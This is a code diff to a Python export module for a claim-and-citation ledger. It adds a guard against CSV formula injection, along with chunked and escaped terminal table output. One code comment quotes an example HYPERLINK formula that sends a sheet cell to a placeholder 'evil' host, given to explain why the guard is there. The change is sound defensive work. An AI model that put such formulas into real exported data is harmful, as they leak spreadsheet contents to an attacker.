@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 from enum import Enum
 from dataclasses import dataclass
 from typing import IO, Any, Callable
@@ -19,6 +20,7 @@ from typing import IO, Any, Callable
 from .errors import UsageError
 from .kinds import Kind
 from .ledger import DocumentLedger, Record, Reference, Summary
+from .text import printable
 
 
 class Format(str, Enum):
@@ -133,19 +135,39 @@ class Writer:
         pass
 
 
-class DelimitedWriter(Writer):
-    """CSV (`excel` dialect) or TSV (`excel-tab`), one row a record, header first."""
+# A cell starting with one of these is run as a formula by spreadsheets (CSV injection, OWASP):
+# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 
-    def __init__(self, stream, include_all=False, table=LEDGER, dialect="excel"):
+
+def safe_cell(value: Any) -> Any:
+    """A cell that no spreadsheet runs as a formula: OWASP's advice, a leading `'` before a
+    text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return. Plain numbers
+    (`-0.5`) stay numbers."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+class DelimitedWriter(Writer):
+    """CSV (`excel` dialect) or TSV (`excel-tab`), one row a record, header first.
+
+    Cells are made safe for spreadsheets (`safe_cell`) unless `raw_cells` is set.
+    """
+
+    def __init__(self, stream, include_all=False, table=LEDGER, dialect="excel", raw_cells=False):
         super().__init__(stream, include_all, table)
         self.writer = csv.DictWriter(stream, fieldnames=table.columns, dialect=dialect)
+        self.raw_cells = raw_cells
 
     def begin(self):
         self.writer.writeheader()
 
     def document(self, ledger):
         for row in self.table.rows(ledger, self.include_all):
-            self.writer.writerow(self.table.flat(ledger, row))
+            flat = self.table.flat(ledger, row)
+            self.writer.writerow(flat if self.raw_cells else {k: safe_cell(v) for k, v in flat.items()})
 
 
 class JsonLinesWriter(Writer):
@@ -175,38 +197,63 @@ class JsonWriter(Writer):
 
 
 class TableWriter(Writer):
-    """A rich table per document for people reading a terminal; not meant for machines."""
+    """Rich tables for people reading a terminal; not meant for machines.
+
+    A document's rows go out in tables of `CHUNK` rows with fixed column widths, so that a long
+    document streams (and `| head` stops it early) instead of being rendered whole first.
+    Control characters in document names and text are shown escaped.
+    """
+
+    CHUNK = 50
+    # (name, style, width): fixed, so that the chunks of one document line up.
+    COLUMNS = (("#", "dim", 6), ("kind", "cyan", 11), ("claim", None, 5), ("score", None, 5),
+               ("cites", "magenta", 10), ("text", None, None))
 
     def begin(self):
         from rich.console import Console
 
-        self.console = Console(file=self.stream)
+        class _Console(Console):
+            def on_broken_pipe(self) -> None:
+                raise BrokenPipeError  # the caller decides how a closed pipe ends the run
+
+        self.console = _Console(file=self.stream)
 
     def document(self, ledger):
         from rich.markup import escape
         from rich.table import Table
 
-        table = Table(title=escape(ledger.doc), expand=True)
-        for name, style in (("#", "dim"), ("kind", "cyan"), ("claim", None), ("score", None),
-                            ("cites", "magenta"), ("text", None)):
-            table.add_column(name, style=style, overflow="fold")
-        for r in ledger.rows(self.include_all):
-            claim = "[green]yes[/]" if r.is_claim else ("" if r.kind is Kind.HEADING else "no")
-            cites = ",".join(map(str, r.citations)) or ("[red]none[/]" if r.is_claim else "")
-            # Escaped: the text holds `[1]`-style markers that rich would read as markup.
-            text = f"[bold]{escape(r.text)}[/]" if r.kind is Kind.HEADING else escape(r.text)
-            table.add_row(r.id.rsplit("#", 1)[-1], r.kind.value, claim, f"{r.score:.2f}", cites, text)
-        self.console.print(table)
+        rows = ledger.rows(self.include_all)
+        for first in range(0, max(len(rows), 1), self.CHUNK):
+            table = Table(title=escape(printable(ledger.doc)) if first == 0 else None,
+                          expand=True, show_header=first == 0)
+            for name, style, width in self.COLUMNS:
+                table.add_column(name, style=style, overflow="fold", width=width, no_wrap=False)
+            for r in rows[first : first + self.CHUNK]:
+                table.add_row(*self._cells(r, escape))
+            self.console.print(table)
+
+    @staticmethod
+    def _cells(r: Record, escape: Callable[[str], str]) -> tuple[str, ...]:
+        claim = "[green]yes[/]" if r.is_claim else ("" if r.kind is Kind.HEADING else "no")
+        cites = ",".join(map(str, r.citations)) or ("[red]none[/]" if r.is_claim else "")
+        # Escaped: the text holds `[1]`-style markers that rich would read as markup.
+        text = escape(printable(r.text))
+        return (r.id.rsplit("#", 1)[-1], r.kind.value, claim, f"{r.score:.2f}", cites,
+                f"[bold]{text}[/]" if r.kind is Kind.HEADING else text)
 
 
 def make_writer(
-    fmt: Format, stream: IO[str], include_all: bool = False, table: Table = LEDGER
+    fmt: Format, stream: IO[str], include_all: bool = False, table: Table = LEDGER,
+    raw_cells: bool = False,
 ) -> Writer:
-    """The writer for `fmt` writing `table` (the claim ledger by default) to `stream`."""
+    """The writer for `fmt` writing `table` (the claim ledger by default) to `stream`.
+
+    `raw_cells` turns off the formula guard of CSV and TSV (see `safe_cell`).
+    """
     if fmt is Format.csv:
-        return DelimitedWriter(stream, include_all, table)
+        return DelimitedWriter(stream, include_all, table, raw_cells=raw_cells)
     if fmt is Format.tsv:
-        return DelimitedWriter(stream, include_all, table, dialect="excel-tab")
+        return DelimitedWriter(stream, include_all, table, dialect="excel-tab", raw_cells=raw_cells)
     if fmt is Format.jsonl:
         return JsonLinesWriter(stream, include_all, table)
     if fmt is Format.json:
